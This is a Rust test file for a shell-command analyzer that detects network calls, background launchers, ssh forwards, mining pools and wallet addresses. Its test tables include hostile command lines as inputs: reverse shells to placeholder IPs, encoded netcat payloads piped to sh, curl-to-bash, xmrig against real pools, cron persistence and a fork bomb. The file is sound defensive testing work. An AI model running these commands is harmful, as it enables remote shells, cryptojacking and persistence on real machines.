use std::net::IpAddr;

use super::*;

fn lines(text: &str) -> Vec<String> {
    CommandLine::parse(text).commands.iter().map(SimpleCommand::line).collect()
}

/// What the shell runs, written down by hand (and, where it has no side effects, checked against `bash -x`).
#[test]
fn the_commands_of_a_line_are_those_the_shell_runs() {
    let table: &[(&str, &[&str])] = &[
        ("ls -la", &["ls -la"]),
        ("a 'b c' \"d $X\" e\\ f", &["a b c d $X e f"]),
        ("X=1 Y=2 cmd $X", &["cmd $X"]),
        ("X=pool.example; cmd -o $X:3333", &["", "cmd -o pool.example:3333"]),
        ("X=a; X+=b; echo ${X}c \"$X\"", &["", "", "echo abc ab"]),
        ("echo ${POOL:-pool.example:3333}", &["echo pool.example:3333"]),
        ("H=(10.0.0.1 10.0.0.2); for h in \"${H[@]}\"; do ping $h; done", &["", "ping 10.0.0.1", "ping 10.0.0.2"]),
        ("for i in 1 2; do nc -z 10.30.0.$i 22; done", &["nc -z 10.30.0.1 22", "nc -z 10.30.0.2 22"]),
        (
            "for i in $(seq 3 4)\ndo\n nc -z 10.30.0.$i 22\ndone",
            &["seq 3 4", "nc -z 10.30.0.3 22", "nc -z 10.30.0.4 22"],
        ),
        ("for ((i=1;i<=2;i++)); do nc h $i; done", &["nc h 1", "nc h 2"]),
        ("for i in {7..8}; do a $i; done", &["a 7", "a 8"]),
        ("for f in $(cat hosts); do ping $f; done", &["cat hosts", "ping $f"]),
        ("while read x; do nc $x 1; done < hosts", &["", "read x", "nc $x 1"]),
        ("if a; then b; elif c; then d; else e; fi; f", &["a", "b", "c", "d", "e", "f"]),
        ("case $x in a|b) one;; *) two;; esac; three", &[": $x", "one", "two", "three"]),
        ("f() { nc $1 22; }; f 10.0.0.9", &["nc 10.0.0.9 22"]),
        ("function g { echo hi; }", &[]),
        ("(a; b) | c", &["a", "b", "c"]),
        ("{ a; b; } && c || d & e", &["a", "b", "c", "d", "e"]),
        ("bash -c 'nc 10.0.0.1 80; ls'", &["bash -c nc 10.0.0.1 80; ls", "nc 10.0.0.1 80", "ls"]),
        ("bash -lc \"ssh -R 1:h:2 j\"", &["bash -lc ssh -R 1:h:2 j", "ssh -R 1:h:2 j"]),
        ("sh <<'EOF'\nnc a.example 1\nEOF\nls", &["sh", "nc a.example 1", "ls"]),
        ("cat <<EOF > notes.md\nrun xmrig here\nEOF\nls", &["cat", "ls"]),
        ("cat > x.sh <<'E'\nnc a.example 1\nE\nbash x.sh", &["cat", "bash x.sh", "nc a.example 1"]),
        ("echo 'nc b 2' > y.sh; chmod +x y.sh; ./y.sh", &["echo nc b 2", "chmod +x y.sh", "./y.sh", "nc b 2"]),
        // $ echo 'nc 203.0.113.9 4444' | base64
        (
            "echo bmMgMjAzLjAuMTEzLjkgNDQ0NAo= | base64 -d | sh",
            &["echo bmMgMjAzLjAuMTEzLjkgNDQ0NAo=", "base64 -d", "sh", "nc 203.0.113.9 4444"],
        ),
        (
            "eval \"$(echo bHMgLWxhCg== | base64 --decode)\"",
            &["echo bHMgLWxhCg==", "base64 --decode", "eval ls -la", "ls -la"],
        ),
        ("$(printf '\\x6e\\x63') h 1", &["printf \\x6e\\x63", "nc h 1"]),
        ("echo $'a\\tb\\x41'", &["echo a\tbA"]),
        ("seq 1 2 | xargs -P2 -I{} nc -z 10.0.0.{} 22", &["seq 1 2", "nc -z 10.0.0.1 22", "nc -z 10.0.0.2 22"]),
        ("nohup setsid timeout -k 5 60 nice -n 10 ./xmrig -o p:1 &", &["./xmrig -o p:1"]),
        ("sudo -u root env A=1 xmrig", &["xmrig"]),
        ("find . -name '*.py' -exec grep -l x {} \\;", &["grep -l x {}"]),
        ("[[ $a =~ ^(x|y)$ ]] && b", &["[[  $a =~ ^(x|y)$ ]]", "b"]),
        ("diff <(a 1) <(b 2)", &["a 1", "b 2", "diff <(a 1) <(b 2)"]),
        ("a 2>&1 | b > /dev/null 2>&1; c &> log", &["a", "b", "c"]),
        ("exec 3<>/dev/tcp/10.0.0.1/22", &["exec"]),
        ("# comment with xmrig\nls # more", &["ls"]),
        ("tmux new-session -d -s m 'xmrig -o p:1'", &["tmux new-session -d -s m xmrig -o p:1", "xmrig -o p:1"]),
        (
            "echo '*/5 * * * * /tmp/m -o p:1' | crontab -",
            &["echo */5 * * * * /tmp/m -o p:1", "crontab -", "/tmp/m -o p:1"],
        ),
        (
            "(crontab -l; echo '@reboot /tmp/m') | crontab -",
            &["crontab -l", "echo @reboot /tmp/m", "crontab -", "/tmp/m"],
        ),
        ("echo '/tmp/m' | at now + 5 minutes", &["echo /tmp/m", "at now + 5 minutes", "/tmp/m"]),
        ("python3 - <<'E'\nimport os\nos.system('nc h 1')\nE", &["python3 -", "nc h 1"]),
        (
            "python -c 'import subprocess; subprocess.run([\"ssh\", \"-R\", \"1:h:2\", \"j\"])'",
            &["python -c import subprocess; subprocess.run([\"ssh\", \"-R\", \"1:h:2\", \"j\"])", "ssh -R 1:h:2 j"],
        ),
        ("a `b 'c d'` e", &["b c d", "a `b 'c d'` e"]),
        ("cat a \\\n  b", &["cat a b"]),
        ("echo {a,b}{1,2}", &["echo a1 a2 b1 b2"]),
        ("x=$((1+2)); echo $x", &["", "echo $x"]),
        ("((i++)); ls", &["ls"]),
        ("watch -n 5 'nc h 1'", &["watch", "nc h 1"]),
        ("trap 'rm x' EXIT", &["trap rm x EXIT", "rm x"]),
        ("docker exec -it c bash -c 'id'", &["bash -c id", "id"]),
        ("", &[]),
        (";;;", &[]),
        ("'unclosed", &["unclosed"]),
        ("$(unclosed", &["unclosed", "$(unclosed"]),
    ];
    for (text, expected) in table {
        assert_eq!(lines(text), *expected, "{text}");
    }
}

#[test]
fn launchers_are_seen() {
    use Launcher::*;
    let table: &[(&str, &[Launcher])] = &[
        ("ls", &[]),
        ("xmrig &", &[Background]),
        ("nohup xmrig > /dev/null 2>&1 &", &[Background, Nohup]),
        ("xmrig & disown", &[Background, Disown]),
        ("setsid -f xmrig", &[Setsid]),
        ("ssh -fNR 1:h:2 j", &[SelfDetached]),
        ("ssh -N -R 1:h:2 j", &[]),
        ("ssh -o ForkAfterAuthentication=yes -N j", &[SelfDetached]),
        ("screen -dmS x xmrig", &[Screen]),
        ("tmux new -d 'xmrig'", &[Tmux]),
        ("sleep 1m && curl h", &[SleepDelay(60)]),
        ("(sleep 90; curl h) & ls", &[Background, SleepDelay(90)]),
        ("systemd-run --unit x ./m", &[Systemd]),
        ("systemctl enable --now m.service", &[Systemd]),
        ("docker run -d img", &[Container]),
        ("docker run --rm img", &[]),
        ("crontab -l", &[]),
        ("echo '* * * * * m' | crontab -", &[Cron]),
        ("echo m | at now", &[At]),
        ("a && b", &[]),
        ("a 2>&1", &[]),
    ];
    for (text, expected) in table {
        assert_eq!(CommandLine::parse(text).launchers, *expected, "{text}");
    }
    let line = CommandLine::parse("(sleep 90; curl h) & ls");
    let delays: Vec<Option<u64>> = line.commands.iter().map(|command| command.delay_s).collect();
    assert_eq!(delays, [None, Some(90), None], "the delay holds inside the subshell only");
}

#[test]
fn pipelines_and_substitutions_tell_where_the_input_comes_from() {
    for text in [
        "curl -s http://h/x | bash",
        "bash <(curl -s http://h/x)",
        "bash -c \"$(curl -s http://h/x)\"",
        "curl http://h | tee x | sudo bash -s --",
    ] {
        let line = CommandLine::parse(text);
        let shell = line.commands.iter().find(|command| command.name() == "bash").expect(text);
        assert!(shell.input_from.iter().any(|program| program == "curl"), "{text}: {:?}", shell.input_from);
    }
    let line = CommandLine::parse("curl http://h > x; bash y");
    assert!(line.commands[1].input_from.is_empty());
}

#[test]
fn hidden_text_is_marked() {
    let line = CommandLine::parse("echo bmMgMjAzLjAuMTEzLjkgNDQ0NAo= | base64 -d | bash");
    let hidden: Vec<&str> = line.commands.iter().filter(|command| command.decoded).map(SimpleCommand::name).collect();
    assert_eq!(hidden, ["nc"]);
    assert!(CommandLine::parse("echo 'nc h 1' | bash").commands.iter().all(|command| !command.decoded));
}

/// ssh(1): `-R [bind_address:]port:host:hostport`, `-R port` alone is remote SOCKS, clusters end at the first valued letter.
#[test]
fn ssh_forwardings_in_all_shapes() {
    let table: &[(&str, &str)] = &[
        ("ssh -R 8080:localhost:80 jump.example", "remote - 8080 localhost 80"),
        ("ssh -fNR 8080:localhost:80 jump.example", "remote - 8080 localhost 80"),
        ("ssh -fNTR8080:localhost:80 jump.example", "remote - 8080 localhost 80"),
        (
            "ssh -p 443 -i key -o StrictHostKeyChecking=no -N -R 0.0.0.0:2222:127.0.0.1:22 u@jump.example",
            "remote 0.0.0.0 2222 127.0.0.1 22",
        ),
        ("ssh jump.example -R 1080", "remote - 1080 - -"),
        ("ssh -R '[::1]:2222:[fe80::1]:22' j", "remote ::1 2222 fe80::1 22"),
        ("ssh -o 'RemoteForward 9000 127.0.0.1:9001' j", "remote - 9000 127.0.0.1 9001"),
        ("ssh -oRemoteForward=\"9000 127.0.0.1:9001\" j", "remote - 9000 127.0.0.1 9001"),
        ("autossh -M 0 -f -N -R 9000:h:1 j", "remote - 9000 h 1"),
        ("sshpass -p pw ssh -R 1:h:2 j", "remote - 1 h 2"),
        ("ssh -L 5432:db:5432 j", "local - 5432 db 5432"),
        ("ssh -D 1080 j", "dynamic - 1080 - -"),
        ("ssh -D 127.0.0.1:1080 j", "dynamic 127.0.0.1 1080 - -"),
        ("ssh -W h:22 j", "stdio - - h 22"),
        ("ssh -w 0:0 j", "device - - - -"),
        ("ssh j 'grep -R x .'", ""),
        ("ssh j grep -R x .", ""),
        ("ssh -N j", ""),
    ];
    for (text, expected) in table {
        let line = CommandLine::parse(text);
        let shown: Vec<String> = line.commands[0]
            .ssh()
            .expect(text)
            .forwards
            .iter()
            .map(|f| {
                let port = |port: Option<u16>| port.map_or("-".to_owned(), |port| port.to_string());
                let word = |word: &Option<String>| word.clone().unwrap_or("-".to_owned());
                format!(
                    "{} {} {} {} {}",
                    f.kind.name(),
                    word(&f.bind),
                    port(f.listen_port),
                    word(&f.target_host),
                    port(f.target_port)
                )
            })
            .collect();
        assert_eq!(shown.join("; "), *expected, "{text}");
    }
    let line = CommandLine::parse("ssh -p 443 -l me -J a@hop.example:2200,b jump.example uptime -p");
    let call = line.commands[0].ssh().unwrap();
    assert_eq!((call.host.as_deref(), call.port, call.user.as_deref()), (Some("jump.example"), Some(443), Some("me")));
    assert_eq!(call.jumps, [("hop.example".to_owned(), Some(2200)), ("b".to_owned(), None)]);
    assert_eq!(call.remote_command.as_deref(), Some("uptime -p"));
}

fn shown(literal: &Literal) -> String {
    let value = match &literal.kind {
        LiteralKind::Address(address) => address.to_string(),
        LiteralKind::Network(net) => net.to_string(),
        LiteralKind::Prefix(net) => format!("{net}~"),
        LiteralKind::Host(host) => host.clone(),
        LiteralKind::Url(url) => url.clone(),
        LiteralKind::Forward(forward) => format!("forward {}", forward.kind.name()),
        LiteralKind::Wallet(wallet) => format!("{} {}", wallet.coin, wallet.address),
    };
    let port = literal.port.map_or(String::new(), |port| format!(" {port}"));
    format!("{}{value}{port}", if literal.act { "" } else { "? " })
}

fn literals_of(text: &str) -> Vec<String> {
    let line = CommandLine::parse(text);
    let mut all: Vec<String> = literals(&line, text).iter().map(shown).collect();
    all.sort();
    all
}

const MONERO: &str = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

/// `?` marks a mention. Derived by hand.
#[test]
fn literals_by_hand() {
    let table: &[(&str, &[&str])] = &[
        ("curl http://203.0.113.7:8080/x", &["203.0.113.7 8080", "http://203.0.113.7:8080/x 8080"]),
        ("curl -sSL https://mirror.example/x.sh", &["https://mirror.example/x.sh 443", "mirror.example 443"]),
        ("curl mirror.example/x", &["mirror.example", "mirror.example 80"]),
        ("nc -zv 10.30.0.20 22", &["10.30.0.20", "10.30.0.20 22"]),
        ("nc -w 3 db 5432", &["db 5432"]),
        ("echo > /dev/tcp/10.0.0.5/6379", &["10.0.0.5 6379"]),
        ("ssh -p 2222 root@jump", &["jump 2222"]),
        (
            "ssh -fNR 8080:localhost:80 -p 443 tun@jump.example",
            &["forward remote", "jump.example", "jump.example 443", "localhost 80"],
        ),
        ("nmap -p 22,80 10.30.0.0/24", &["10.30.0.0/24", "10.30.0.0/24 22", "10.30.0.0/24 80"]),
        (
            "for i in $(seq 1 2); do nc -z 10.30.0.$i 22; done",
            &["10.30.0.0/24~", "10.30.0.1", "10.30.0.1 22", "10.30.0.2", "10.30.0.2 22"],
        ),
        ("for i in $X; do ping -c1 10.30.0.$i; done", &["10.30.0.0/24~"]),
        (
            "xmrig -o stratum+tcp://pool.supportxmr.com:3333",
            &["pool.supportxmr.com 3333", "stratum+tcp://pool.supportxmr.com:3333 3333"],
        ),
        ("./m --url=gulf.moneroocean.stream:10128", &["gulf.moneroocean.stream 10128"]),
        ("socat TCP4:203.0.113.9:443 EXEC:/bin/sh", &["203.0.113.9 443"]),
        ("curl 'http://[2001:db8::1]:8080/'", &["2001:db8::1 8080", "http://[2001:db8::1]:8080/ 8080"]),
        ("ping6 2001:db8::7", &["2001:db8::7"]),
        ("python3 -c 's.connect((\"203.0.113.9\", 4444))'", &["203.0.113.9 4444"]),
        ("python3 - <<'E'\nfor i in range(9):\n  s.connect((f\"10.30.0.{i}\", 22))\nE", &["10.30.0.0/24~"]),
        (
            "python3 -c 'r.get(\"https://api.example.com/v1\")'",
            &["api.example.com 443", "https://api.example.com/v1 443"],
        ),
        ("scp f me@host.example:/tmp/", &["host.example"]),
        ("git clone git@github.com:a/b.git", &["github.com"]),
        ("redis-cli -h cache -p 6380 ping", &["cache 6380"]),
        ("echo 203.0.113.7", &["? 203.0.113.7"]),
        ("grep pool.supportxmr.com notes.txt", &["? pool.supportxmr.com"]),
        ("ls # see http://203.0.113.8/", &["? 203.0.113.8 80", "? http://203.0.113.8/ 80"]),
        // What is not a literal.
        ("python main.py --config settings.local.json", &[]),
        ("pip install foo==1.2.3.4 bar==2.0.1", &[]),
        ("cat src/lib.rs README.md ./run.sh", &[]),
        ("git checkout v1.2.3", &[]),
        ("python -m http.server", &[]),
        ("jq .name package.json", &[]),
        ("cargo test std::fs::read a::b", &[]),
        ("pytest tests/test_x.py::TestA::test_b", &[]),
        ("sed -i s/a.com/b.com/ f", &[]),
        ("curl -A 'Mozilla/5.0 Chrome/120.0.0.0' https://h.example/", &["h.example 443", "https://h.example/ 443"]),
    ];
    for (text, expected) in table {
        assert_eq!(literals_of(text), *expected, "{text}");
    }
}

#[test]
fn places_point_at_the_text() {
    let text = "bash -c 'nc 10.0.0.1 80' && curl http://h.example/x";
    let line = CommandLine::parse(text);
    for literal in literals(&line, text) {
        let expected = match &literal.kind {
            LiteralKind::Address(_) => "10.0.0.1",
            LiteralKind::Host(_) => "h.example",
            LiteralKind::Url(_) => "http://h.example/x",
            other => panic!("{other:?}"),
        };
        assert_eq!(&text[literal.range.clone()], expected);
    }
}

/// Vectors: Bitcoin's genesis address; BIP 173's P2WPKH example; Monero's donation address (getmonero.org);
/// EIP-55's first example. Each with one character changed where a checksum should catch it.
#[test]
fn wallets_by_published_vectors() {
    let coin = |text: &str| wallets(text).first().map(|(wallet, _)| (wallet.coin, wallet.checked));
    assert_eq!(coin("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"), Some(("BTC", true)));
    assert_eq!(coin("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb"), None);
    assert_eq!(coin("3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy"), Some(("BTC", true)));
    assert_eq!(coin("-u bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4.rig"), Some(("BTC", true)));
    assert_eq!(coin("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5"), None);
    assert_eq!(coin("bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0"), Some(("BTC", true)));
    assert_eq!(coin(MONERO), Some(("XMR", false)));
    assert_eq!(coin(&MONERO[..94]), None);
    assert_eq!(coin("0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"), Some(("ETH", false)));
    assert_eq!(coin("0x0000000000000000000000000000000000000000"), None);
    assert_eq!(coin("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"), None);
    let text = format!("xmrig -o p.example:3333 -u {MONERO} -p x");
    assert!(literals_of(&text).contains(&format!("XMR {MONERO}")));
}

#[test]
fn network_capability() {
    let capable = |text: &str| is_network_capable(&CommandLine::parse(text));
    for text in [
        "ls -la | grep x > y",
        "cd /a && cat b; echo $HOME",
        "git status",
        "git -C x diff",
        "sed -i s/a/b/ f",
        "bash -c 'ls; pwd'",
        "find . -type f -exec grep x {} +",
        "export A=1",
        "",
        "nvidia-smi",
        "git add -A && git commit -m 'x'",
    ] {
        assert!(!capable(text), "{text}");
    }
    for text in [
        "curl h",
        "git fetch",
        "git clone x",
        "pip install x",
        "python x.py",
        "./run",
        "nc h 1",
        "ssh h",
        "bash x.sh",
        "make",
        "unknown-program",
        "echo x > /dev/tcp/h/1",
        "timeout 5 bash -c 'curl h'",
        "ls; wget h",
        "npm test",
    ] {
        assert!(capable(text), "{text}");
    }
}

/// Lines as the tools print them (curl 7.88 and 8.x, GNU wget 1.21, busybox, OpenSSH 9, iputils, bind9-host, dig, xmrig 6).
#[test]
fn resolutions_are_read_from_outputs() {
    let table: &[(&str, &[(&str, &str)])] = &[
        (
            "*   Trying 203.0.113.80:80...\n* Connected to mirror.example (203.0.113.80) port 80 (#0)\n",
            &[("mirror.example", "203.0.113.80")],
        ),
        (
            "* Host mirror.example:443 was resolved.\n* IPv6: (none)\n* IPv4: 203.0.113.80, 203.0.113.81\n*   Trying 203.0.113.80:443...\n",
            &[("mirror.example", "203.0.113.80"), ("mirror.example", "203.0.113.81")],
        ),
        (
            "*   Trying [2001:db8::1]:443...\n* Immediate connect fail\n*   Trying 203.0.113.5:443...\n* Failed to connect to m.example port 443 after 3 ms: Couldn't connect to server\n",
            &[("m.example", "2001:db8::1"), ("m.example", "203.0.113.5")],
        ),
        ("* Added pool.example:3333:203.0.113.9 to DNS cache", &[("pool.example", "203.0.113.9")]),
        (
            "Resolving mirror.example (mirror.example)... 203.0.113.80, 2001:db8::1\nConnecting to mirror.example (mirror.example)|203.0.113.80|:80... connected.",
            &[("mirror.example", "203.0.113.80"), ("mirror.example", "2001:db8::1")],
        ),
        ("Resolving mirror.example... failed: Name or service not known.", &[]),
        ("Connecting to mirror.example (203.0.113.80:80)", &[("mirror.example", "203.0.113.80")]),
        ("debug1: Connecting to jump.example [203.0.113.66] port 443.", &[("jump.example", "203.0.113.66")]),
        (
            "Authenticated to jump.example ([203.0.113.66]:443) using \"publickey\".",
            &[("jump.example", "203.0.113.66")],
        ),
        (
            "Warning: Permanently added '[jump.example]:443,[203.0.113.66]:443' (ED25519) to the list of known hosts.",
            &[("jump.example", "203.0.113.66")],
        ),
        (
            "The authenticity of host 'jump.example (203.0.113.66)' can't be established.",
            &[("jump.example", "203.0.113.66")],
        ),
        ("PING mirror.example (203.0.113.80) 56(84) bytes of data.", &[("mirror.example", "203.0.113.80")]),
        ("PING m.example(r.example (2001:db8::1)) 56 data bytes", &[("m.example", "2001:db8::1")]),
        ("traceroute to m.example (203.0.113.80), 30 hops max, 60 byte packets", &[("m.example", "203.0.113.80")]),
        (
            "203.0.113.80    mirror.example www.mirror.example",
            &[("mirror.example", "203.0.113.80"), ("www.mirror.example", "203.0.113.80")],
        ),
        ("203.0.113.80    STREAM mirror.example", &[("mirror.example", "203.0.113.80")]),
        (
            "www.m.example is an alias for m.example.\nm.example has address 203.0.113.80\nm.example has IPv6 address 2001:db8::1",
            &[
                ("m.example", "203.0.113.80"),
                ("m.example", "2001:db8::1"),
                ("www.m.example", "203.0.113.80"),
                ("www.m.example", "2001:db8::1"),
            ],
        ),
        (
            "www.m.example.\t300\tIN\tCNAME\tm.example.\nm.example.\t300\tIN\tA\t203.0.113.80",
            &[("m.example", "203.0.113.80"), ("www.m.example", "203.0.113.80")],
        ),
        (
            "Server:\t\t10.0.0.2\nAddress:\t10.0.0.2#53\n\nNon-authoritative answer:\nName:\tm.example\nAddress: 203.0.113.80\n",
            &[("m.example", "203.0.113.80")],
        ),
        (
            "[2026-11-20 14:14:01.123]  net      use pool pool.supportxmr.com:3333  203.0.113.9",
            &[("pool.supportxmr.com", "203.0.113.9")],
        ),
        (
            "[2026-11-20 14:14:01.123]  net      use pool p.example:443 TLSv1.3 203.0.113.9",
            &[("p.example", "203.0.113.9")],
        ),
        ("Connection to m.example (203.0.113.80) 80 port [tcp/http] succeeded!", &[("m.example", "203.0.113.80")]),
        ("m.example [203.0.113.80] 80 (http) open", &[("m.example", "203.0.113.80")]),
        ("Trying 203.0.113.80...\nConnected to m.example.", &[("m.example", "203.0.113.80")]),
        ("Nmap scan report for m.example (203.0.113.80)", &[("m.example", "203.0.113.80")]),
        ("10.0.0.1 ether 00:11:22:33:44:55 C eth0\ntext without any\n", &[]),
    ];
    for (output, expected) in table {
        let expected: Vec<(String, IpAddr)> =
            expected.iter().map(|(name, address)| ((*name).to_owned(), address.parse().unwrap())).collect();
        assert_eq!(name_resolutions(output), expected, "{output}");
    }
}

mod bounds {
    use proptest::prelude::*;

    use super::*;

    fn all(text: &str) {
        let line = CommandLine::parse(text);
        literals(&line, text);
        is_network_capable(&line);
        name_resolutions(text);
        wallets(text);
        for command in &line.commands {
            assert!(text.get(command.range.clone()).is_some(), "{:?} of {text:?}", command.range);
            command.ssh();
        }
        for literal in literals(&line, text) {
            assert!(text.get(literal.range.clone()).is_some(), "{literal:?} of {text:?}");
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn any_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
            all(&String::from_utf8_lossy(&bytes));
        }

        /// Shell pieces in any order hit far more of the grammar than random bytes do.
        #[test]
        fn any_pieces(pieces in proptest::collection::vec(prop::sample::select(vec![
            "$(", ")", "`", "\"", "'", "{", "}", "${x:-", "$x", "$((", "))", "<<E\n", "\nE\n", "<<<", "<(", ">", ">>", "&>", "2>&1",
            "|", "||", "&&", "&", ";", ";;", "\n", " ", "if ", "then ", "fi ", "for i in ", "do ", "done ", "case x in ", "esac ",
            "a)", "f() ", "f ", "while ", "x=", "x=(", "eval ", "bash -c ", "echo ", "xargs -I{} ", "seq 1 9", "{1..9}", "{a,b}",
            "base64 -d", "sudo ", "nohup ", "crontab -", "at now", "tmux new -d ", "find . -exec ", "\\;", "\\", "10.0.0.1:80", "é", "http://h.example:8/",
            "10.0.0.$i", "::1", "[fe80::1]:22", "ssh -R ", "-R", "time ", "[[ ", "]]", "function f ", "python -c ", "os.system('", "#",
        ]), 0..60)) {
            all(&pieces.concat());
        }
    }

    /// What would be exponential, quadratic or deep in a careless reader ends within its bounds, and says so.
    #[test]
    fn hostile_texts_end() {
        let wide = |piece: &str| piece.repeat(LONGEST_TEXT / piece.len());
        for piece in [
            "$(",
            "$((",
            "${",
            "`",
            "(",
            "{ ",
            "((",
            "[[ ",
            "if ",
            "case x in ",
            "a|",
            "a;",
            "<<E ",
            "\"$(",
            "'",
            "\\",
            "$'\\x4",
            "f(){ f;f; };f;",
            "eval ",
            "x=$x$x;",
            "{a,b}",
            "bash -c '",
            "1.2.3.4 ",
            "a.b.c:1 ",
            "http://",
            "::",
            "for i in a b; do ",
        ] {
            all(&wide(piece));
        }
        for text in [
            "f(){ f; f; }; f",
            "f(){ for i in {1..1000}; do f; done; }; f",
            "for a in {1..1000}; do for b in {1..1000}; do for c in {1..1000}; do x $a $b $c; done; done; done",
            "x=aaaaaaaaaaaaaaaa; for i in {1..1000}; do x=$x$x; done",
            ":(){ :|:& };:",
            "echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}",
            "a=; while :; do eval \"$a\"; done",
        ] {
            let line = CommandLine::parse(text);
            assert!(line.commands.len() <= MOST_COMMANDS);
        }
        assert!(
            !CommandLine::parse("for a in {1..100}; do for b in {1..100}; do x $a $b; done; done").limits.is_empty()
        );
        assert!(!CommandLine::parse(&"(".repeat(500)).limits.is_empty());
        assert!(!CommandLine::parse(&"a ".repeat(LONGEST_TEXT)).limits.is_empty());
    }
}
